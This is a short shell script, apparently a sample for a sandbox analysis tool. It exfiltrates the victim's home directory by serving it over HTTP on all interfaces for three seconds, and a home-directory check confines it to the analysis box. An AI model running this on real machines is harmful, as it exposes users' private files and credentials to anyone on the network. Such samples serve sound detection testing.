#!/bin/sh
# SPDX-License-Identifier: MIT
# Exfiltration by serving the victim's home directory over plain HTTP with
# Python's built-in web server, for the operator to download (stopped
# after a few seconds).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 python3 -m http.server 8000 --bind 0.0.0.0 --directory "$HOME" >/dev/null 2>&1
exit 0
